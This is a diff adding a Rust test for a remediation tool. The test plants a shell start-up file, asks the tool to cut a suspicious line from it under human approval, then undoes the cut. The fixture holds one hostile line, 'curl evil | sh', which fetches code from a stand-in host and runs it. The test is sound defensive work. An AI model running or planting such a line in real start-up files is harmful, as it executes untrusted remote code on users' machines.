@@ -25,6 +25,29 @@ fn with_nobody_enrolled_the_refusal_comes_at_once() {
 }
 
 #[test]
+fn a_line_of_a_start_up_file_goes_with_a_yes_and_comes_back_with_another() {
+    const SHELL: &str = "export A=1\ncurl evil | sh\nalias b=c\n";
+    let home = Home::new();
+    let person = home.enroll("anna");
+    let file = home.file(".bashrc", SHELL);
+    let id = format!("{}:2", file.display());
+    let asked = home.call("remediate", json!({ "type": "startup", "id": id })).expect(4).json();
+    let request = text(&asked["approval"]["request_id"]).to_owned();
+    let shown = home.run(&["approvals", "show", &request], "").expect(0).out();
+    assert!(shown.contains("Take this line out of this file") && shown.contains("curl evil | sh"), "{shown}");
+    home.run(&["approvals", "approve", &request], format!("{}\n", person.code())).expect(0);
+    assert_eq!(std::fs::read_to_string(&file).unwrap(), "export A=1\nalias b=c\n");
+
+    let listed = home.call("remediate", json!({ "list": true })).expect(0).json();
+    let row = &listed["data"]["rows"][0];
+    assert_eq!((&row["type"], &row["id"], &row["outcome"]), (&json!("startup"), &json!(id), &json!("cut")));
+    let asked = home.call("undo", json!({ "type": "startup", "id": id })).expect(4).json();
+    let request = text(&asked["approval"]["request_id"]).to_owned();
+    home.run(&["approvals", "approve", &request], format!("{}\n", person.code())).expect(0);
+    assert_eq!(std::fs::read_to_string(&file).unwrap(), SHELL);
+}
+
+#[test]
 fn a_file_goes_with_a_yes_and_comes_back_with_another() {
     let home = Home::new();
     let person = home.enroll("anna");
